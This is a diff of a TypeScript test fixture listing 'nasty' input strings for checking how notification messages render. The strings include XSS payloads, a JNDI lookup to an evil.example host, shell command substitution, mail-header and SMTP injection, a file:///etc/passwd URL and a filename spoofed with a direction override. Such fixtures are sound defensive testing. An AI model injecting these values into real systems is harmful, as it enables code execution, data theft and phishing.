@@ -1,8 +1,8 @@
 /** Texts that have broken messages somewhere, by what they are: any text of an event, of its labels and of its entity may be one. */
 export const nastyTexts: Readonly<Record<string, string>> = {
-  "Markdown": "# a **b** _c_ ~~d~~ `e` > f\n- g\n1. h\n| i | j |",
+  Markdown: "# a **b** _c_ ~~d~~ `e` > f\n- g\n1. h\n| i | j |",
   "a link of Markdown": "[log in](https://evil.example/phish) ![x](https://evil.example/p.png)",
-  "HTML": '<h1>a</h1><img src=x onerror="alert(1)"><a href="https://evil.example">log in</a>',
+  HTML: '<h1>a</h1><img src=x onerror="alert(1)"><a href="https://evil.example">log in</a>',
   "a script": "</title></td><script>alert('x')</script><!-- ",
   "entities of HTML": "&lt;b&gt; &amp;amp; &#x3c;script&#x3e; &nbsp",
   "mentions of Slack": "<!channel> <!here|here> <!everyone> <!subteam^S024BE7LH> <@U024BE7LH> <#C024BE7LR>",
@@ -12,7 +12,7 @@ export const nastyTexts: Readonly<Record<string, string>> = {
   "mentions of Teams": '<at>Everyone</at> <at id="0">Ada</at>',
   "an override of direction": "safe\u202egpj.exe\u202c \u2066isolated\u2069",
   "Arabic and Hebrew": "القرص ممتلئ הדיסק מלא",
-  "emoji": "🔥🚨 👩‍👩‍👧‍👦 🏳️‍🌈 🇩🇪 👍🏽",
+  emoji: "🔥🚨 👩‍👩‍👧‍👦 🏳️‍🌈 🇩🇪 👍🏽",
   "many emoji": "👩‍👩‍👧‍👦".repeat(2000),
   "half a character": "a\ud800b\udc00c",
   "characters of many marks": `Z${"\u0300\u0321\u035c".repeat(700)}algo`,
@@ -22,10 +22,11 @@ export const nastyTexts: Readonly<Record<string, string>> = {
   "control characters": "a\u0001b\u0007c\u001b[31md\u007fe\u0085f\tg",
   "no character": "a\u0000b",
   "tags of templates": "{{rule.name}} {{{event.body}}} {{#members}}x{{/members}} {{=<% %>=}} {{",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: what is not replaced
   "tags of Go and shells": "{{ .Labels.secret }} ${jndi:ldap://evil.example/a} $(id) `id` %s %n",
-  "JSON": '"},"channel":"general","text":"x\\"}]} \\u0022',
+  JSON: '"},"channel":"general","text":"x\\"}]} \\u0022',
   "quotes and backslashes": "\\'\"`\\\\ ‘’“” \\n \\",
-  "addresses": "https://evil.example/a?b=c&d=<e> javascript:alert(1) data:text/html,x file:///etc/passwd",
+  addresses: "https://evil.example/a?b=c&d=<e> javascript:alert(1) data:text/html,x file:///etc/passwd",
   "headers of a mail": "x\r\nBcc: victim@example.com\r\nContent-Type: text/html\r\n\r\n<b>y</b>",
   "dots of SMTP": "a\r\n.\r\nQUIT\r\n.",
   "line ends of all kinds": "a\nb\rc\r\nd\u2028e\u2029f\vg\n\n\nh",
